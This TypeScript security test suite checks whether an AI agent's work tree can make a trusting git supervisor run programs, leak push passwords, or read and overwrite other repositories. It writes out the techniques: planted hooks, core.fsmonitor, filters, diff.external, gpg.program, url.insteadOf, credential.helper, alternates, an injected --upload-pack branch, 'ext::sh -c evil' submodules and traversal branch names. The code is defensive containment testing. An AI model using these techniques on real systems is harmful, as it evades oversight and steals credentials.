// Can an agent, or a repository, have git do for it what it may not do itself?
import { cpSync, existsSync, readFileSync, writeFileSync } from "node:fs";
import { createServer, type IncomingMessage, request, type ServerResponse } from "node:http";
import { dirname, join } from "node:path";
import { cloneRepository } from "../../functions/git/clone.ts";
import { listTree } from "../../functions/git/list-tree.ts";
import { localRepositoryPassword, localRepositoryUrl } from "../../functions/git/local-repository.ts";
import { readBlob } from "../../functions/git/objects.ts";
import { pushCommit } from "../../functions/git/push.ts";
import { inspectRemote } from "../../functions/git/remote.ts";
import { listenOnLoopback } from "../../infra/local/aws-json.ts";
import { startGitServer } from "../../infra/local/git-server.ts";
import { serveLocalRepositories } from "../../infra/local/local-repositories.ts";
import { git } from "../git/native-git.ts";
import { edit } from "../simulation/mutants/edit.ts";
import { baseFiles, commitNaively, cross, makeBase, openWorkshop, trustingGit } from "./crossing.ts";
import type { Field } from "./field.ts";
import { withoutSafeguard } from "./unguarded.ts";
import type { Vector } from "./vector.ts";

const timeoutMs = 20_000;
const gitHttp = "functions/git/http.ts";
const gitRemote = "functions/git/remote.ts";
const gitPush = "functions/git/push.ts";
const marked = (field: Field) => join(field.scratch(), "was-here");

interface Plant {
  attack: string;
  heldBy: string;
  /** What the agent leaves behind, so that somebody else makes `marker`. */
  script(marker: string): string;
  /** What a supervisor that trusts the work tree does with it, beside a commit. */
  after?: string[];
}

const work = (script: string) => `mkdir -p .git; echo changed > README.md; ${script}`;

/** Settings that make git run a program: of the agent, under the supervisor's uid. */
function plant({ attack, heldBy, script, after }: Plant): Vector {
  return {
    ...{ attack, heldBy, needs: ["git"] },
    async run(field) {
      const marker = marked(field);
      const crossed = await cross(field, work(script(marker)));
      if (crossed.kind !== "collected" || crossed.files.length === 0) throw new Error(JSON.stringify(crossed));
      return existsSync(marker);
    },
    async control(field) {
      const marker = marked(field);
      const directory = await commitNaively(field, work(script(marker)));
      if (after) await trustingGit(directory, after);
      return existsSync(marker);
    },
  };
}

const ownDirectory = "a git directory that is the supervisor's alone";
const program = (path: string, marker: string) =>
  `mkdir -p ${dirname(path)}; printf '#!/bin/sh\\ntouch ${marker}\\n' > ${path}; chmod +x ${path}`;
const setting = (section: string, line: string, file = ".git/config") =>
  `printf '%s\\n' '[${section}]' '${line}' >> ${file}`;

/** What a remote is to us: served over HTTP, with a password. */
async function serve(field: Field, directory: string) {
  const password = `password-of-${field.secret}`;
  const server = await startGitServer({ authorize: (_user, given) => given === password, resolve: () => directory });
  field.undo(() => server.close());
  return { url: `${server.url}/shop`, auth: { username: "x-access-token", password } };
}

/** A server of somebody else's that asks for a password and keeps it. */
async function openThief(field: Field) {
  const heard: string[] = [];
  const thief = await listenOnLoopback(async (asked, answer) => {
    heard.push(Buffer.from(asked.headers.authorization?.split(" ")[1] ?? "", "base64").toString());
    if (asked.headers.authorization) return void answer.writeHead(404).end();
    answer.writeHead(401, { "www-authenticate": 'Basic realm="x"' }).end();
  });
  field.undo(() => thief.close());
  return {
    url: thief.url,
    hasPassword: () => heard.some((text) => text.includes(field.secret)),
    wasAsked: () => heard.length > 0,
  };
}

/** The work of a hostile work tree is pushed with the password; where does that go? */
function atPush(
  attack: string,
  script: (field: Field, places: { url: string; thief: string; marker: string }) => string,
): Vector {
  const attempt = async (field: Field, guarded: boolean) => {
    const { bare } = makeBase(field);
    const { url, auth } = await serve(field, bare);
    const thief = await openThief(field);
    const marker = marked(field);
    const commands = work(script(field, { url, thief: thief.url, marker }));
    if (guarded) {
      const { repository } = await openWorkshop(field);
      const crossed = await cross(field, commands);
      const { commit } = crossed as Extract<typeof crossed, { kind: "collected" }>;
      const outcome = await pushCommit({ repository, commit, branch: "work", url, auth, expect: "absent" });
      if (outcome.kind !== "pushed") throw new Error(JSON.stringify(outcome));
    } else {
      const directory = await commitNaively(field, commands);
      const ask = join(field.scratch(), "ask.sh");
      writeFileSync(ask, `#!/bin/sh\necho '${auth.password}'\n`, { mode: 0o755 });
      await trustingGit(directory, ["push", url, "HEAD:refs/heads/work"], { GIT_ASKPASS: ask });
    }
    return thief.hasPassword() || (existsSync(marker) && readFileSync(marker, "utf8").includes(field.secret));
  };
  return {
    ...{ attack, heldBy: ownDirectory, needs: ["git"] },
    run: (field) => attempt(field, true),
    control: (field) => attempt(field, false),
  };
}

export const gitVectors: Vector[] = [
  plant({
    attack: "have a hook of its own run at the supervisor's commit",
    heldBy: ownDirectory,
    script: (marker) => program(".git/hooks/pre-commit", marker),
  }),
  plant({
    attack: "have a program run by a setting that looks harmless (core.fsmonitor)",
    heldBy: ownDirectory,
    script: (marker) => setting("core", `fsmonitor = "touch ${marker}; true"`),
  }),
  plant({
    attack: "have a program run by a filter that .gitattributes asks for",
    heldBy: "an engine that has no filters",
    script: (marker) =>
      `echo '* filter=evil' > .gitattributes; ${setting('filter "evil"', `clean = "touch ${marker}; cat"`)}`,
  }),
  plant({
    attack: "have a program run by a configuration that another one includes",
    heldBy: ownDirectory,
    script: (marker) =>
      `${setting("include", "path = ../evil.config")}; ${setting("core", "hooksPath = evil", "evil.config")}; ${program("evil/pre-commit", marker)}`,
  }),
  plant({
    attack: "have a program run where the supervisor looks at the changes (diff.external)",
    heldBy: "a diff that is made from the objects",
    script: (marker) => setting("diff", `external = "touch ${marker}; true"`),
    after: ["diff", "HEAD~1", "HEAD"],
  }),
  plant({
    attack: "have a program run to sign the commit (gpg.program)",
    heldBy: "a commit that is written without the agent's settings",
    script: (marker) =>
      `${setting("commit", "gpgSign = true")}; ${setting("gpg", "program = ./sign")}; ${program("sign", marker)}`,
  }),
  {
    attack: "have its work committed into another repository (a .git that is a file)",
    heldBy: ownDirectory,
    needs: ["git"],
    async run(field) {
      const other = makeBase(field);
      await cross(field, `rm -rf .git; echo 'gitdir: ${other.bare}' > .git; echo changed > README.md`);
      return git(other.work, ["log", "--format=%s", "--all"]).includes("Work");
    },
    async control(field) {
      const other = makeBase(field);
      await commitNaively(field, `rm -rf .git; echo 'gitdir: ${other.bare}' > .git; echo changed > README.md`);
      return git(other.work, ["log", "--format=%s", "--all"]).includes("Work");
    },
  },
  {
    attack: "read objects of another task's repository (alternates)",
    heldBy: ownDirectory,
    needs: ["git"],
    async run(field) {
      const { script, oid } = lookElsewhere(field);
      await cross(field, script);
      const { repository } = await openWorkshop(field);
      return readBlob({ ...repository, cache: {} }, oid).then(
        (content) => content.includes(field.secret),
        () => false,
      );
    },
    async control(field) {
      const { script, oid } = lookElsewhere(field);
      return (await trustingGit(await commitNaively(field, script), ["cat-file", "blob", oid])).includes(field.secret);
    },
  },
  {
    attack: "add a submodule, whose address others would then fetch",
    heldBy: "modes of which only those of files and links cross",
    needs: ["git"],
    async run(field) {
      const crossed = await cross(field, addSubmodule);
      return crossed.kind === "collected" && crossed.files.some(({ mode }) => mode === "160000");
    },
    control: async (field) =>
      await (await trustingGit(await commitNaively(field, addSubmodule), ["ls-tree", "-r", "HEAD"])).includes(
        "160000 ",
      ),
  },
  atPush("have the password sent to a server of its own (url.insteadOf)", (_field, { url, thief }) =>
    setting(`url "${thief}/"`, `insteadOf = ${url.replace(/shop$/, "")}`),
  ),
  atPush("have the password given to a program of its own (credential.helper)", (_field, { marker }) =>
    setting("credential", `helper = "!f() { cat >> ${marker}; }; f"`),
  ),
  {
    attack: "have the password follow a redirect to another host",
    heldBy: "redirects that are followed within one origin only",
    run: (field) => isRedirected(field, inspectRemote),
    async control(field) {
      const { load } = withoutSafeguard(field, [edit(gitHttp, "if (next?.origin !== url.origin)", "if (!next)")]);
      return isRedirected(field, (await load<typeof import("../../functions/git/remote.ts")>(gitRemote)).inspectRemote);
    },
  },
  {
    attack: "overwrite a branch of somebody else's",
    heldBy: "a push that says what it expects, and takes nothing away",
    needs: ["git"],
    run: (field) => isOverwritten(field, pushCommit),
    async control(field) {
      const { load } = withoutSafeguard(field, [
        edit(
          gitPush,
          'const expected = expect === "absent" ? undefined : expect.commit;\n  if (at !== expected)',
          "const expected = at;\n  if (at !== expected)",
        ),
      ]);
      return isOverwritten(field, (await load<typeof import("../../functions/git/push.ts")>(gitPush)).pushCommit);
    },
  },
  {
    attack: "open another repository of the machine with the password of its own",
    heldBy: "a password for each path",
    needs: ["git"],
    run: (field) => opensOther(field, serveLocalRepositories),
    async control(field) {
      const file = "infra/local/local-repositories.ts";
      const { load } = withoutSafeguard(field, [
        edit(file, "isSame(password, localRepositoryPassword(options.secret, path))", 'password !== ""'),
      ]);
      const loaded = await load<typeof import("../../infra/local/local-repositories.ts")>(file);
      return opensOther(field, loaded.serveLocalRepositories);
    },
  },
  {
    attack: "have the supervisor ask an address of the repository's choosing (.gitmodules)",
    heldBy: "submodules that are not fetched",
    needs: ["git"],
    async run(field) {
      const { remote, thief } = await baseWithSubmodule(field);
      const { url, auth } = await serve(field, remote.bare);
      await cloneRepository({ dir: join(field.scratch(), "clone"), url, auth, branch: "main" });
      return thief.wasAsked();
    },
    async control(field) {
      const { remote, thief } = await baseWithSubmodule(field);
      await trustingGit(field.scratch(), ["clone", "-q", "--recurse-submodules", remote.bare, "clone"]);
      return thief.wasAsked();
    },
  },
  {
    attack: "have a program run by a branch that reads like an option",
    heldBy: "an engine that is no command line",
    needs: ["git"],
    async run(field) {
      const marker = marked(field);
      const remote = makeBase(field);
      const { url, auth } = await serve(field, remote.bare);
      const dir = join(field.scratch(), "clone");
      await cloneRepository({ dir, url, auth, branch: `--upload-pack=touch ${marker};` }).catch(() => undefined);
      return existsSync(marker);
    },
    async control(field) {
      const marker = marked(field);
      await trustingGit(field.scratch(), ["ls-remote", `--upload-pack=touch ${marker};`, makeBase(field).bare]);
      return existsSync(marker);
    },
  },
  {
    attack: "write outside of the git directory by the name of a branch that the server makes up",
    heldBy: "names of branches that are judged before they become files",
    needs: ["git"],
    run: (field) => isMadeUpTaken(field, { inspectRemote, cloneRepository }),
    async control(field) {
      const { load } = withoutSafeguard(field, [
        edit("functions/git/branch-name.ts", 'if (branch.includes("..") ||', "if ("),
        edit("functions/git/branch-name.ts", 'if (part.startsWith(".") || part.endsWith("."))', "if (false)"),
      ]);
      return isMadeUpTaken(field, {
        ...(await load<typeof import("../../functions/git/remote.ts")>(gitRemote)),
        ...(await load<typeof import("../../functions/git/clone.ts")>("functions/git/clone.ts")),
      });
    },
  },
  {
    attack: "name files without end in a few small trees",
    heldBy: "an end to how many are listed",
    needs: ["git"],
    run: (field) => isListed(field, listTree),
    async control(field) {
      const file = "functions/git/list-tree.ts";
      const { load } = withoutSafeguard(field, [edit(file, "if (entries.length >= most)", "if (false)")]);
      return isListed(field, (await load<typeof import("../../functions/git/list-tree.ts")>(file)).listTree);
    },
  },
];

function lookElsewhere(field: Field) {
  const other = makeBase(field, { ...baseFiles, kept: field.secret });
  const oid = git(other.work, ["rev-parse", "HEAD:kept"]).trim();
  return {
    oid,
    script: `mkdir -p .git/objects/info; echo ${other.bare}/objects > .git/objects/info/alternates; echo x > x`,
  };
}

const nested = "git init -q . && git -c user.name=T -c user.email=t@t commit -q --allow-empty -m x";
const addSubmodule = `printf '[submodule "sub"]\\npath = sub\\nurl = ext::sh -c evil\\n' > .gitmodules; mkdir sub && cd sub && HOME=. ${nested}`;

async function isRedirected(field: Field, inspect: typeof inspectRemote): Promise<boolean> {
  const thief = await openThief(field);
  const away = await listenOnLoopback(async (asked, answer) => {
    if (asked.headers.authorization) return void answer.writeHead(302, { location: `${thief.url}${asked.url}` }).end();
    answer.writeHead(401, { "www-authenticate": 'Basic realm="x"' }).end();
  });
  field.undo(() => away.close());
  await inspect({ url: `${away.url}/shop`, auth: { username: "x", password: field.secret }, timeoutMs });
  return thief.hasPassword();
}

/** Its work grew from a commit that somebody else's branch has left behind. */
async function isOverwritten(field: Field, push: typeof pushCommit): Promise<boolean> {
  const remote = makeBase(field);
  const { url, auth } = await serve(field, remote.bare);
  const gitDir = join(field.scratch(), "clone.git");
  cpSync(remote.bare, gitDir, { recursive: true });
  const commit = git(gitDir, ["commit-tree", "-p", remote.head, "-m", "Work", `${remote.head}^{tree}`]).trim();
  git(remote.work, ["commit", "-q", "--allow-empty", "-m", "Somebody else's"]);
  git(remote.work, ["config", "receive.denyCurrentBranch", "ignore"]);
  const repository = { gitDir, baseCommit: remote.head, cache: {} };
  await push({ repository, commit, url, auth, branch: "main", expect: "absent" });
  return git(remote.work, ["rev-parse", "main"]).trim() === commit;
}

async function opensOther(field: Field, start: typeof serveLocalRepositories): Promise<boolean> {
  const secret = "of this stack";
  const [mine, other] = [makeBase(field), makeBase(field)];
  const server = await start({ secret });
  field.undo(() => server.close());
  const auth = { username: "drover", password: localRepositoryPassword(secret, mine.work) };
  const found = await inspectRemote({ url: localRepositoryUrl(server.url, other.work), auth, timeoutMs });
  return found.kind === "found";
}

async function baseWithSubmodule(field: Field) {
  const thief = await openThief(field);
  const remote = makeBase(field, { ".gitmodules": `[submodule "sub"]\npath = sub\nurl = ${thief.url}/sub\n` });
  git(remote.work, ["update-index", "--add", "--cacheinfo", `160000,${remote.head},sub`]);
  git(remote.work, ["commit", "-q", "-m", "With a submodule"]);
  return { remote, thief };
}

/** As long as each other, so that no length of a packet changes. */
const honest = "aaaaaaaaaaaaaaaa";
const madeUp = "../../../../evil";

type Looking = Pick<typeof import("../../functions/git/remote.ts"), "inspectRemote"> &
  Pick<typeof import("../../functions/git/clone.ts"), "cloneRepository">;

async function isMadeUpTaken(field: Field, { inspectRemote, cloneRepository }: Looking): Promise<boolean> {
  const { url, auth } = await serveMadeUpBranch(field);
  const dir = join(field.scratch(), "deep/clone");
  const found = await inspectRemote({ url, auth, timeoutMs });
  const branch = found.kind === "found" ? found.branch : madeUp;
  await cloneRepository({ dir, url, auth, branch }).catch(() => undefined);
  const places = ["refs/heads", "refs/remotes/origin"].map((folder) => join(dir, folder, madeUp));
  return found.kind === "found" || places.some((place) => existsSync(place));
}

/** A git server whose only branch is called what no branch may be called. */
async function serveMadeUpBranch(field: Field) {
  const remote = makeBase(field);
  git(remote.work, ["branch", "-m", honest]);
  const { url, auth } = await serve(field, remote.bare);
  const liar = createServer((asked: IncomingMessage, answer: ServerResponse) => {
    const options = { method: asked.method, headers: { ...asked.headers, "accept-encoding": "identity" } };
    const forward = request(new URL(asked.url ?? "", url), options, async (told) => {
      const chunks: Buffer[] = [];
      for await (const chunk of told) chunks.push(chunk as Buffer);
      const { "content-length": _, ...headers } = told.headers;
      answer.writeHead(told.statusCode ?? 500, headers);
      answer.end(Buffer.from(Buffer.concat(chunks).toString("latin1").replaceAll(honest, madeUp), "latin1"));
    });
    asked.pipe(forward);
  });
  await new Promise<void>((resolve) => liar.listen(0, "127.0.0.1", resolve));
  field.undo(() => liar.close());
  const address = liar.address();
  return { url: `http://127.0.0.1:${typeof address === "object" ? address?.port : 0}/shop`, auth };
}

/** Each entry of the upper tree is the same lower one again. */
async function isListed(field: Field, list: typeof listTree): Promise<boolean> {
  const { bare: gitDir } = makeBase(field);
  const makeTree = (count: number, mode: string, type: string, oid: string) => {
    const lines = Array.from({ length: count }, (_, at) => `${mode} ${type} ${oid}\tn${at}\n`);
    return git(gitDir, ["mktree"], lines.join("")).trim();
  };
  const blob = git(gitDir, ["hash-object", "-w", "--stdin"], "x").trim();
  const root = makeTree(300, "040000", "tree", makeTree(300, "100644", "blob", blob));
  const commit = git(gitDir, ["commit-tree", "-m", "Many", root]).trim();
  return list({ gitDir, baseCommit: commit, cache: {} }, commit, 50_000).then(
    (entries) => entries.length === 90_000,
    () => false,
  );
}
